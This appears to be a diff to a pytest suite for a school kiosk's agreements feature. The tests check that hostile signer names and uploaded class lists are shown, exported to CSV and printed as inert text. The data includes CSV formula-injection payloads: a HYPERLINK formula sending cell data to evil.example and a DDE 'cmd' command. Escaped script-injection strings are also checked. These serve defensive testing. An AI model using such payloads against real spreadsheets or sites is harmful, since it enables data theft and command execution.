@@ -18,23 +18,18 @@ from __future__ import annotations
 
 import csv
 import gc
-import hashlib
 import io
 import os
-import shutil
-import subprocess
-import sys
 import time
 import urllib.request
-import zipfile
 from collections.abc import Iterator
 from pathlib import Path
+from typing import ClassVar
 
 import pytest
 
 import content as shipped
-from exports.export import HIDDEN
-from exports.lead import answer_keys, make_export, released_report, trend_choices, trend_view
+from exports.lead import answer_keys, make_export
 from kiosk.console.desk import ConsoleDesk
 from surveys.agreements.aup import Signer
 from surveys.agreements.sealing import seal_signature
@@ -48,7 +43,7 @@ from tests.surveys.agreements.signatures import signature
 
 LIBRARY = load_content(shipped.SHIPPED_DIR)
 HOSTILE_NAMES = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+44 1234 cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A9)",
@@ -67,8 +62,10 @@ def _fill(folder: Path, public: bytes, responses: int = 600) -> None:
     with SignatureStore(folder) as store:
         for n, name in enumerate(HOSTILE_NAMES, start=1):
             store.save(seal_signature(signature(ks2, n, signer_name=name, class_name="4B"), key))
-        parent = signature(parents, 99, signer=Signer.PARENTS, signer_name="Zainab Okonkwo",
-                           relationship="Mum", child_name="Amira Patel", child_aup=ks2.ref)  # fmt: skip
+        parent = signature(
+            parents, 99, signer=Signer.PARENTS, signer_name="Zainab Okonkwo",
+            relationship="Mum", child_name="Amira Patel", child_aup=ks2.ref,
+        )  # fmt: skip
         store.save(seal_signature(parent, key))
 
 
@@ -109,7 +106,7 @@ def desks() -> list[ConsoleDesk]:
 class SlowShard:
     """A shard file turned into a named pipe: whoever reads it waits until :meth:`feed`."""
 
-    made: list[SlowShard] = []
+    made: ClassVar[list[SlowShard]] = []
 
     def __init__(self, path: Path) -> None:
         self.path, self.data = path, path.read_bytes()
@@ -176,7 +173,8 @@ def test_a_lock_while_trends_read_keeps_no_figures_or_key(served: Served) -> Non
     """FIXED: Trends read in a worker were kept with the answers' keys (the school's
     private key) after a Lock tapped meanwhile, and the chart was drawn over the door."""
     key = open_private_key(served.key_file, PASSPHRASE)
-    make_export(served.hub.root, LIBRARY, answer_keys(served.hub.root, key), served.key_file.parent / "pack")
+    keys = answer_keys(served.hub.root, key)
+    make_export(served.hub.root, LIBRARY, keys, served.key_file.parent / "pack")
     tab = sign_up(served)
     unlock(tab, "Agreements", "Zainab Okonkwo")
     shard = sorted((served.hub.root / "responses").rglob("shard-*.json"))[0]
@@ -190,4 +188,96 @@ def test_a_lock_while_trends_read_keeps_no_figures_or_key(served: Served) -> Non
     assert "Sign in" in tab.text() and "What changed" not in tab.text()
     for desk in desks():
         assert desk._released is None and desk.answers is None
+    tab.close()
+
+
+# -- agreements: hostile names and class lists --------------------------------------------
+
+
+def _fetch(served: Served, tab: Console) -> bytes:
+    """The file the page last sent the browser to (its /download/ address)."""
+    deadline = time.monotonic() + 20
+    while not any(name == "launch_url" for name, _ in tab.invoked):
+        assert time.monotonic() < deadline, "the page sent the browser nowhere"
+        time.sleep(0.1)
+    url = next(a["url"] for name, a in reversed(tab.invoked) if name == "launch_url")
+    tab.invoked.clear()
+    with urllib.request.urlopen(served.url.rstrip("/") + url, timeout=10) as got:
+        return bytes(got.read())
+
+
+def test_hostile_names_stay_text_on_screen_in_the_csv_and_on_the_printable_page(
+    served: Served,
+) -> None:
+    tab = sign_up(served)
+    unlock(tab, "Agreements", "Zainab Okonkwo")
+    for name in HOSTILE_NAMES:
+        assert name in tab.text()  # shown as typed, as text: Flet draws no HTML
+    tab.type("Search by name or class", "=HYPERLINK")
+    tab.tap("Search")
+    tab.wait_for('1 signature match "=HYPERLINK"')
+    tab.tap("Show everyone")
+    deadline = time.monotonic() + 20
+    while "signature match" in tab.text():  # drawn again without the search
+        assert time.monotonic() < deadline
+        time.sleep(0.1)
+    tab.tap("Download the register (CSV)")
+    tab.wait_for("This file holds names")
+    rows = list(csv.reader(io.StringIO(_fetch(served, tab).decode("utf-8-sig"))))
+    for cell in (c for row in rows[1:] for c in row):
+        assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
+    assert any(c.startswith("'=HYPERLINK") for row in rows for c in row)
+    tab.tap("Printable page")
+    tab.wait_for("Downloading the printable page")
+    page = _fetch(served, tab).decode()
+    assert "<script>alert" not in page and "<img src=x" not in page
+    assert "&lt;script&gt;alert(&#x27;pwned&#x27;)&lt;/script&gt;" in page
+    tab.close()
+
+
+def test_a_hostile_class_list_is_refused_or_used_as_text_and_goes_with_the_lock(
+    served: Served,
+) -> None:
+    tab = sign_up(served)
+    unlock(tab, "Agreements", "Zainab Okonkwo")
+    bad = [
+        ("utf16.csv", "name,class\nZoë,4B\n".encode("utf-16"), "save it as CSV (UTF-8)"),
+        ("cols.csv", b"pupil,form\nA,B\n", "must name the columns"),
+        ("big.csv", b"name,class\n" + b"a,b\n" * 1_500_000, "larger than 5 MB"),
+        ("field.csv", b"name,class\n" + b"x" * 200_000 + b",4B\n", "not readable as CSV"),
+    ]
+    for name, data, said in bad:
+        tab.picked = [{"id": 1, "name": name, "size": len(data), "bytes": data}]
+        tab.tap("Choose a class list")
+        tab.wait_for(said, timeout=30)
+        assert "Class list " not in tab.text()  # nothing was used
+    hostile = 'name,class\n=HYPERLINK("http://evil.example"),4B\n<b>Nul\x00l</b>,4B\n'
+    tab.picked = [{"id": 1, "name": "<i>list</i>.csv", "size": 1, "bytes": hostile.encode()}]
+    tab.tap("Choose a class list")
+    tab.wait_for("Using <i>list</i>.csv: 2 pupils")
+    tab.tap("Class list status (CSV)")
+    tab.wait_for("This file holds names")
+    status = _fetch(served, tab).decode("utf-8-sig")
+    assert "'=HYPERLINK" in status and "\x00" not in status
+    tab.tap("Lock")
+    tab.wait_for("Locked. Sign in")
+    for desk in desks():
+        assert desk._opened is None
+    tab.close()
+
+
+def test_a_class_list_of_300_000_classes_is_drawn_in_bounded_time(served: Served) -> None:
+    """FIXED: the by-class table drew one row per class on the list, uncapped: a 5 MB list
+    of 330,000 classes sent over a million controls to the page, which never drew it."""
+    tab = sign_up(served)
+    unlock(tab, "Agreements", "Zainab Okonkwo")
+    data = b"name,class\n" + b"".join(b"p%d,c%d\n" % (i, i) for i in range(330_000))
+    assert len(data) < 5 * 2**20
+    tab.picked = [{"id": 1, "name": "all.csv", "size": len(data), "bytes": data}]
+    started = time.monotonic()
+    tab.tap("Choose a class list")
+    tab.wait_for("Using all.csv: 330000 pupils", timeout=60)
+    took = time.monotonic() - started
+    assert took < 60 and len(tab.ids()) < 20_000, (took, len(tab.ids()))
+    assert "Showing 200 of 330001 classes" in tab.text()
     tab.close()
